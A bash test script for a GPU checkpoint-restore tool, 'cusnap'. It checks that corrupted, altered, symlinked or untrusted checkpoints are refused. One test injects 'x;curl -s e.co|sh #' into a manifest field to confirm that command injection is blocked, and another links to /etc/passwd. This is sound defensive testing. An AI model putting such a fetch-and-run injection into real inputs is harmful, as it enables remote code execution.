#!/usr/bin/env bash
# A corrupted, truncated, altered or unfinished checkpoint is refused by
# restore with a clear error (exit 5) before anything starts; an intact copy
# of the same checkpoint restores after the original job and its runtime
# directory are gone.
source "$(dirname "$0")/lib_checkpoint.sh"

checkpointed_job cj "$T/launch.out" "$T/ckpt"
PAGES=$(cd "$T/ckpt" && ls criu/pages-*.img | head -1)
[ -n "$PAGES" ] || fail "no CRIU page image in the checkpoint"

# variant NAME TEXT: copies the checkpoint to $T/NAME for the caller to damage.
variant() { rm -rf "${T:?}/$1"; cp -a "$T/ckpt" "$T/$1"; }
expect_bad() {
  expect_refused 5 "$2" "$CUSNAP" restore "$T/$1"
  [ -z "$(job_pids_all)" ] || fail "$1: a job was started from a bad checkpoint"
  [ -e "/proc/$PID" ] && fail "$1: process $PID exists after a refused restore"
  pass "$1 refused"
}

variant flipped
printf '\x5a' | dd of="$T/flipped/$PAGES" bs=1 seek=4096 conv=notrunc status=none
expect_bad flipped "SHA-256"
rc=0
"$CUSNAP" inspect "$T/flipped" --json >"$T/flipped.json" 2>/dev/null || rc=$?
[ "$rc" = 5 ] || fail "inspect --json of the flipped checkpoint exited $rc, expected 5"
python3 - "$T/flipped.json" <<'PY' || fail "inspect --json of the flipped checkpoint: $(cat "$T/flipped.json")"
import json, sys
d = json.load(open(sys.argv[1]))
# A failure's shape, as every command gives it, plus the description.
assert d["ok"] is False and d["exit_code"] == 5 and "SHA-256" in d["error"], d
assert d["valid"] is False and d["kind"] == "checkpoint" and d["name"] == "cj", d
assert d["files_intact"] is False, d
PY
pass "inspect --json of the flipped checkpoint: ok false, exit_code 5, the error, files not intact"

variant truncated
truncate -s -4096 "$T/truncated/$PAGES"
expect_bad truncated "truncated|bytes"

variant nomanifest
rm "$T/nomanifest/manifest.json"
expect_bad nomanifest "manifest|did not finish"

variant cutmanifest
head -c 200 "$T/ckpt/manifest.json" >"$T/cutmanifest/manifest.json"
expect_bad cutmanifest "not valid JSON|truncated"
rc=0
"$CUSNAP" inspect "$T/cutmanifest" --json >"$T/cut.json" 2>/dev/null || rc=$?
[ "$rc" = 5 ] || fail "inspect --json of the cut manifest exited $rc, expected 5"
python3 - "$T/cut.json" "$T/cutmanifest" <<'PY' || fail "inspect --json of the cut manifest: $(cat "$T/cut.json")"
import json, sys
d = json.load(open(sys.argv[1]))
# The same shape as any checkpoint's, though the manifest could not be read.
assert d["ok"] is False and d["exit_code"] == 5 and "manifest" in d["error"], d
assert d["kind"] == "checkpoint" and d["valid"] is False and d["dir"] == sys.argv[2], d
assert d["name"] == "" and "manifest" not in d, d
PY
# A bare name that no job has: the directory of that name here.
rc=0
(cd "$T" && exec "$CUSNAP" inspect nomanifest) >/dev/null 2>"$T/bare.err" || rc=$?
[ "$rc" = 5 ] || fail "inspect of a bare directory name exited $rc, expected 5: $(cat "$T/bare.err")"
grep -q "nomanifest is not a usable checkpoint" "$T/bare.err" || fail "inspect nomanifest: $(cat "$T/bare.err")"
pass "inspect of an unreadable manifest: the checkpoint's JSON shape; a bare directory name inspected as a checkpoint"

variant extra
echo x >"$T/extra/criu/core-99999.img"
expect_bad extra "not listed"

variant missing
rm "$T/missing/criu/$(cd "$T/ckpt/criu" && ls core-*.img | head -1)"
expect_bad missing "missing|incomplete"

# Symbolic links are refused, naming the link, not where it leads.
variant link
ln -s /etc/passwd "$T/link/criu/link"
expect_bad link "$T/link/criu/link is a symbolic link"
expect_refused 5 "$T/link/criu/link is a symbolic link" "$CUSNAP" inspect "$T/link"
variant linkedmanifest
mv "$T/linkedmanifest/manifest.json" "$T/linkedmanifest/m2"
ln -s m2 "$T/linkedmanifest/manifest.json"
expect_bad linkedmanifest "$T/linkedmanifest/manifest.json is a symbolic link"

# edit_manifest NAME STATEMENTS [stale]: a copy whose manifest (m) the Python
# statements change, as a hand edit would, its own SHA-256 (manifest_sha256)
# computed again as cusnap computes it, so that what is refused is the
# edited field itself; with "stale", the one cusnap wrote is kept, as any
# change made outside cusnap leaves it.
edit_manifest() {
  variant "$1"
  python3 - "$T/$1/manifest.json" "$2" "${3:-}" <<'PY'
import hashlib, json, sys

class Number(str):
    """A number with a fraction, kept as the manifest writes it: Python's
    shortest digits are not always nlohmann's."""

def text(v, depth=0):
    """JSON text as cusnap writes a manifest: nlohmann's, keys sorted, indent 2."""
    pad, inner = "  " * depth, "  " * (depth + 1)
    if isinstance(v, Number):
        return str(v)
    if isinstance(v, dict):
        items = [inner + json.dumps(k, ensure_ascii=False) + ": " + text(v[k], depth + 1)
                 for k in sorted(v)]
        return "{\n" + ",\n".join(items) + "\n" + pad + "}" if items else "{}"
    if isinstance(v, list):
        items = [inner + text(e, depth + 1) for e in v]
        return "[\n" + ",\n".join(items) + "\n" + pad + "]" if items else "[]"
    return json.dumps(v, ensure_ascii=False)

m = json.load(open(sys.argv[1], encoding="utf-8"), parse_float=Number)
written = m.pop("manifest_sha256")
cuda = [p for p in m["processes"] if p["uses_cuda"]][0]
exec(sys.argv[2])
m["manifest_sha256"] = (written if sys.argv[3] == "stale" else
                        hashlib.sha256((text(m) + "\n").encode()).hexdigest())
open(sys.argv[1], "w", encoding="utf-8").write(text(m) + "\n")
PY
}
# A manifest changed outside cusnap, its own SHA-256 left as cusnap wrote it
# (a digit of the job's process id, as a bit flip or a hand edit changes it,
# the rest kept consistent so that the manifest still validates): refused as
# altered or corrupted, naming manifest.json, before anything reads it, by
# restore and inspect. Before, such a manifest was taken: the restore
# checked the wrong pid was free (a false "in use" refusal) or had the
# driver restore another process.
edit_manifest alteredpid '
import os
root = m["processes"][0]
old = root["pid"]
pids = {p["pid"] for p in m["processes"]}
new = next(n for n in (old - old % 10 + (old + d) % 10 for d in range(1, 10))
           if n > 1 and n not in pids)
root["pid"] = m["job"]["root_pid"] = new
for p in m["processes"]:
    if p["ppid"] == old: p["ppid"] = new
m["shim_processes"] = [new if s == old else s for s in m["shim_processes"]]
for f in m["files"]:
    for a, b in ((f"shim/{old}.", f"shim/{new}."), (f"shared/{old}-", f"shared/{new}-")):
        if f["path"].startswith(a):
            d = os.path.dirname(sys.argv[1])
            os.rename(os.path.join(d, f["path"]), os.path.join(d, b + f["path"][len(a):]))
            f["path"] = b + f["path"][len(a):]' stale
ALTERED="$T/alteredpid/manifest.json: the manifest was altered or corrupted after cusnap wrote it"
expect_bad alteredpid "$ALTERED"
expect_refused 5 "$T/alteredpid is not a usable checkpoint: $ALTERED" "$CUSNAP" inspect "$T/alteredpid"
rc=0
"$CUSNAP" inspect "$T/alteredpid" --json >"$T/altered.json" 2>/dev/null || rc=$?
[ "$rc" = 5 ] || fail "inspect --json of the altered manifest exited $rc, expected 5"
python3 - "$T/altered.json" <<'PY' || fail "inspect --json of the altered manifest: $(cat "$T/altered.json")"
import json, sys
d = json.load(open(sys.argv[1]))
assert d["ok"] is False and d["exit_code"] == 5 and d["valid"] is False, d
assert "manifest.json: the manifest was altered or corrupted" in d["error"], d
assert "manifest" not in d, d
PY
pass "a manifest changed outside cusnap (a pid's digit): refused by restore and inspect as altered or corrupted (exit 5)"
# What the restore reads by name from the manifest, missing: refused before
# CRIU or the driver runs (before, the restore failed after both).
edit_manifest norecords 'm["shim_processes"] = [cuda["pid"]]'
expect_bad norecords "shim/[0-9]+[.]records, are not among the checkpoint's files"
# Device memory no GPU has: refused, naming the count (before, the restore's
# check said the job needs 0 MiB).
edit_manifest hugegpu 'cuda["gpu_memory"] = {cuda["gpus"][0]: 2**64 - 1}'
expect_bad hugegpu "18446744073709551615 bytes, more device memory than a GPU has"
# A string longer than what it stands for: refused (before, a 10 MB working
# directory restored, and ps could not list the job).
edit_manifest longcwd 'm["job"]["cwd"] = "/" + "d" * (10 << 20)'
expect_bad longcwd "job.cwd is 10485761 bytes long, more than a path can be"
pass "links, unlisted records, impossible device memory and overlong strings refused (exit 5)"

# A job name that cusnap does not accept (written into the manifest by
# hand, with control bytes): inspect shows it escaped and says the
# checkpoint restores with --name only; restore without one is refused (5),
# with one it restores.
edit_manifest badname 'm["job"]["name"] = "a\x1b[31mb\nc"'
"$CUSNAP" inspect "$T/badname" >"$T/badname.txt" || fail "inspect of badname failed: $(cat "$T/badname.txt")"
grep -q "$(printf '\033')" "$T/badname.txt" && fail "inspect wrote the name's escape byte raw"
grep -qF 'job:      a\x1b[31mb\nc' "$T/badname.txt" || fail "inspect does not show the name escaped: $(cat "$T/badname.txt")"
grep -q "verdict:  valid, restorable with --name NAME only" "$T/badname.txt" ||
  fail "inspect's verdict: $(grep verdict "$T/badname.txt")"
expect_bad badname "restore it with --name NAME"
restore_bg "$T/badname" "$T/badname.out" --name renamed
wait_count "$T/badname.out" $((LAST + 3))
kill -TERM "$LAST_SUPERVISOR"; wait_exit "$LAST_SUPERVISOR"; wait_gone "$PID"
pass "a manifest's job name cusnap does not accept: shown escaped, restorable with --name only"

# The rest of a hand-edited manifest's text inspect prints (a GPU UUID of
# the device memory a restore needs, a phase name) is shown escaped too:
# before, inspect wrote the escape bytes raw to the terminal.
edit_manifest badtext '
cuda["gpu_memory"] = {"GPU-\x1b[2Jgone": 1024}
m["phases"][0]["name"] = "dump\x1b[31mred"'
"$CUSNAP" inspect "$T/badtext" >"$T/badtext.txt" 2>&1 || true
grep -q "needs:" "$T/badtext.txt" || fail "inspect of badtext: $(cat "$T/badtext.txt")"
grep -q "$(printf '\033')" "$T/badtext.txt" &&
  fail "inspect wrote an escape byte raw: $(cat -v "$T/badtext.txt")"
grep -qF 'needs:    1.0 KiB of device memory on GPU-\x1b[2Jgone' "$T/badtext.txt" ||
  fail "inspect does not show the GPU UUID escaped: $(cat "$T/badtext.txt")"
grep -qF '    dump\x1b[31mred ' "$T/badtext.txt" ||
  fail "inspect does not show the phase name escaped: $(cat "$T/badtext.txt")"
# A CRIU run id that is not one (a UUID) is refused: inspect would put it in
# the nft command it gives to paste (before, "nft delete table inet CRIU-x;curl
# -s e.co|sh #" for this one).
edit_manifest badrunid '
m["criu"]["run_id"] = "x;curl -s e.co|sh #"
m["criu"]["network_lock"] = "nftables"
m["tcp_established"] = True'
expect_refused 5 "criu.run_id is not a CRIU run id" "$CUSNAP" inspect "$T/badrunid"
grep -q "curl" "$T/cmd.out" && fail "inspect of badrunid printed the run id: $(cat "$T/cmd.out")"
expect_bad badrunid "criu.run_id is not a CRIU run id"
pass "a manifest's GPU UUIDs and phase names shown escaped; a run id that is not CRIU's refused"

# The original runtime directory is gone; an intact copy restores.
[ ! -e "$CUSNAP_RUNTIME_BASE/cj" ] || fail "the stopped job's runtime directory is still there"

# A user other than root can read an intact copy but not restore it: told
# to run the restore as root, before any directory or link is made (the
# shims' link in root's runtime base used to fail first, Permission denied).
if command -v setpriv >/dev/null; then
  variant readable
  chmod -R a+rX "$T/readable"
  chmod 711 "$T"
  expect_refused 3 "restore needs root.*run the restore as root \(sudo cusnap restore" \
    setpriv --reuid=65534 --regid=65534 --clear-groups env "CUSNAP_RUNTIME_BASE=$T/nobody-base" \
    "$CUSNAP" restore "$T/readable"
  # Its inspect judges the checkpoint for root, who restores: root's own
  # files are not another user's.
  setpriv --reuid=65534 --regid=65534 --clear-groups env "CUSNAP_RUNTIME_BASE=$T/nobody-base" \
    "$CUSNAP" inspect "$T/readable" >"$T/readable.inspect" 2>&1 || true
  grep -q "verdict:" "$T/readable.inspect" && ! grep -q "owned by uid" "$T/readable.inspect" ||
    fail "inspect by another user: $(cat "$T/readable.inspect")"
  chmod 700 "$T"
  ! grep -q "Permission denied" "$T/cmd.out" || fail "the refusal said: $(cat "$T/cmd.out")"
  [ ! -e "$CUSNAP_RUNTIME_BASE/cj" ] || fail "the refused restore made $CUSNAP_RUNTIME_BASE/cj"
  pass "a restore by a user other than root: refused (exit 3), saying to run it as root"
else
  echo "note: no setpriv: the restore by another user was not tried"
fi

# A checkpoint with a file another user owns or may write to: a restore
# runs what its images say as root, so it is refused (exit 3) before
# anything changes, the shims' link its manifest names included; inspect
# says why.
expect_untrusted() {
  expect_refused 3 "$2.*chown -R 0 $T/$1 and chmod -R go-w $T/$1" "$CUSNAP" restore "$T/$1"
  [ -z "$(job_pids_all)" ] || fail "$1: a job was started from an untrusted checkpoint"
  local rc=0
  "$CUSNAP" inspect "$T/$1" >"$T/$1.inspect" 2>&1 || rc=$?
  [ "$rc" = 3 ] && grep -Eq "NOT restorable.*$2" "$T/$1.inspect" ||
    fail "$1: inspect exited $rc: $(cat "$T/$1.inspect")"
}
ln -s "$T/not-mounted-yet" "$T/stale-link"
edit_manifest theirs "m['job']['shim_dir'] = '$T/stale-link'"
chown 65534 "$T/theirs/$PAGES"
expect_untrusted theirs "$PAGES: it is owned by uid 65534, not by uid 0"
[ -L "$T/stale-link" ] || fail "the refused restore removed the link its manifest named"
variant writable
chmod o+w "$T/writable/criu"
expect_untrusted writable "criu: other users may write to it \(mode 0702\)"
pass "a checkpoint another user owns or may change: refused (exit 3) before anything changed"

# A checkpoint of root's below a directory another user may change: that
# user could put another checkpoint in its place between the verification
# and CRIU's reading, so it is refused the same way; a link to it is judged
# as the directory it names. Below a sticky directory of root's (as /tmp)
# only root renames it: taken.
expect_held_path() {  # expect_held_path DIR WHY
  expect_refused 3 "$2.*copy it as root into a directory whose parents only root may change" \
    "$CUSNAP" restore "$1"
  [ -z "$(job_pids_all)" ] || fail "$1: a job was started from a checkpoint another user can replace"
  local rc=0
  "$CUSNAP" inspect "$1" >"$T/held.inspect" 2>&1 || rc=$?
  [ "$rc" = 3 ] && grep -Eq "NOT restorable.*$2" "$T/held.inspect" ||
    fail "$1: inspect exited $rc: $(cat "$T/held.inspect")"
}
mkdir -p "$T/theirs-home" "$T/group-dir" "$T/sticky-dir"
cp -a "$T/ckpt" "$T/theirs-home/ck"
chown 65534 "$T/theirs-home"
expect_held_path "$T/theirs-home/ck" "$T/theirs-home, a directory above it, is owned by uid 65534"
ln -s "$T/theirs-home/ck" "$T/link-to-theirs"
expect_held_path "$T/link-to-theirs" "$T/theirs-home, a directory above it, is owned by uid 65534"
cp -a "$T/ckpt" "$T/group-dir/ck"
chmod 0775 "$T/group-dir"
expect_held_path "$T/group-dir/ck" "$T/group-dir, a directory above it, may be written by other users \(mode 0775\)"
cp -a "$T/ckpt" "$T/sticky-dir/ck"
chmod 1777 "$T/sticky-dir"
rc=0
"$CUSNAP" inspect "$T/sticky-dir/ck" >"$T/sticky.inspect" 2>&1 || rc=$?
[ "$rc" = 0 ] && grep -q "verdict:  valid, restorable" "$T/sticky.inspect" ||
  fail "a checkpoint below a sticky directory of root's: inspect exited $rc: $(cat "$T/sticky.inspect")"
pass "a checkpoint below a directory another user may change: refused (exit 3), also through a link; below a sticky directory of root's: valid"

variant intact
restore_bg "$T/intact" "$T/restore.out"
wait_count "$T/restore.out" $((LAST + 3))
[ "$(first_count "$T/restore.out")" = $((LAST + 1)) ] || fail "the intact copy did not continue at $((LAST + 1))"
pass "an intact copy restores and continues at $((LAST + 1))"
echo "PASS"
